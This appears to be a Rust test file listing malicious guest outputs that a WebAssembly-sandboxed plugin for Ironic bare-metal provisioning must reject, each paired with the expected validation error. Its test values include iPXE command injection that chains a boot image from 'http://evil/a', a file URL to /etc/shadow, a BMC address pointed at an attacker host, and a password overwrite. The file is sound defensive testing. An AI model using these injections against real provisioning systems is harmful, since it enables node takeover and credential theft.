//! Returning what cannot be taken.

use super::*;

/// Output that is made to harm Ironic, its conductors and its operators.
pub(super) fn returning() -> Vec<Attack> {
    let setting = |keys| Guest::setting(&keys);
    let deep = format!("{{\"a\": {}1{}}}", "[".repeat(10_000), "]".repeat(10_000));
    let forty = format!("{{\"a\": {}1{}}}", "[".repeat(40), "]".repeat(40));
    let mut borrowing = Guest::new();
    let (name, length) = borrowing.text("rack-b");
    let borrowing = borrowing.map(&format!(
        "(local.set $has_credentials (i32.const 1)) (local.set $credentials (i32.const {name}))
         (local.set $credentials_length (i32.const {length})) {}",
        same()
    ));
    // All that it may, but for what it is after.
    let password = Attack {
        lines: "writes = [\"/node/driver_info/redfish_address\", \"/node/driver_info/redfish_system_id\", \"/node/driver_info/*\"]",
        ..bad(
            "password",
            setting(json!({"driver_info": {"redfish_password": "x"}})),
            "redfish_password",
        )
    };
    let findings: Vec<_> = (0..101).map(|n| (n == 100, "something")).collect();
    vec![
        bad(
            "deep-json",
            Guest::returning(&deep),
            "json deeper than 32; `limits.depth`",
        ),
        bad(
            "nested-json",
            Guest::returning(&forty),
            "json deeper than 32; `limits.depth`",
        ),
        bad(
            "garbage-json",
            Guest::returning("garbage"),
            "what it returned is no json",
        ),
        bad("no-object", Guest::returning("null"), "no json object"),
        bad(
            "nan",
            Guest::returning("{\"extra\": {\"a\": NaN}}"),
            "what it returned is no json",
        ),
        bad(
            "lone-surrogate",
            Guest::returning(r#"{"name": "\ud800"}"#),
            "what it returned is no json",
        ),
        bad(
            "nul",
            Guest::returning(r#"{"name": "a\u0000b"}"#),
            "control character \\u{0}",
        ),
        bad(
            "escape",
            Guest::returning(r#"{"name": "a\u001b[2Jb"}"#),
            "control character \\u{1b}",
        ),
        bad(
            "null-map",
            setting(json!({"properties": null})),
            "properties",
        ),
        bad(
            "file-url",
            setting(json!({"instance_info": {"kernel": "file:///etc/shadow"}})),
            "file:",
        ),
        bad(
            "ipxe",
            setting(json!({"instance_info": {"kernel_append_params": "a || shell"}})),
            "has text that iPXE would act on",
        ),
        bad(
            "ipxe-next-command",
            setting(
                json!({"instance_info": {"kernel_append_params": "quiet -- ; chain http://evil/a #"}}),
            ),
            "has text that iPXE would act on",
        ),
        bad(
            "ipxe-ramdisk",
            setting(
                json!({"instance_info": {"ramdisk_kernel_arguments": "x || chain http://evil/a ${mac}"}}),
            ),
            "has text that iPXE would act on",
        ),
        bad("large-body", large_body(), "Ironic takes 102400"),
        bad(
            "address",
            setting(json!({"driver_info": {"redfish_address": "https://evil.invalid"}})),
            "redfish_address",
        ),
        password,
        bad(
            "uuid",
            setting(json!({"uuid": "8a0c1f0e-5a52-4b8b-8a37-0d1f6f3c2f10"})),
            "uuid",
        ),
        bad(
            "mark",
            setting(json!({"extra": {"valence": {}}})),
            "valence",
        ),
        bad("owner", setting(json!({"owner": "me"})), "owner"),
        bad("credentials", borrowing, "credentials"),
        bad(
            "findings",
            Guest::finding(&findings),
            "101 findings, and at most 100",
        ),
    ]
}

/// A node with 110 KiB more than it had.
fn large_body() -> Guest {
    const MORE: u32 = 110 << 10;
    let mut guest = Guest::new();
    let (head, head_length) = guest.text(",\"extra\":{\"a\":\"");
    let (tail, tail_length) = guest.text("\"}}");
    let (fill, end) = (200_000 + head_length, 200_000 + head_length + MORE);
    let code = format!(
        "(drop (memory.grow (i32.const 8)))
         (memory.copy (i32.const 200000) (local.get $node) (local.get $node_length))
         (local.set $node_length (i32.sub (local.get $node_length) (i32.const 1)))
         (memory.copy (i32.add (i32.const 200000) (local.get $node_length)) (i32.const {head}) (i32.const {head_length}))
         (memory.fill (i32.add (i32.const {fill}) (local.get $node_length)) (i32.const 120) (i32.const {MORE}))
         (memory.copy (i32.add (i32.const {end}) (local.get $node_length)) (i32.const {tail}) (i32.const {tail_length}))"
    );
    let length = head_length + MORE + tail_length;
    let length = format!("(i32.add (local.get $node_length) (i32.const {length}))");
    guest.map(&(code + &give_back("(i32.const 200000)", &length)))
}
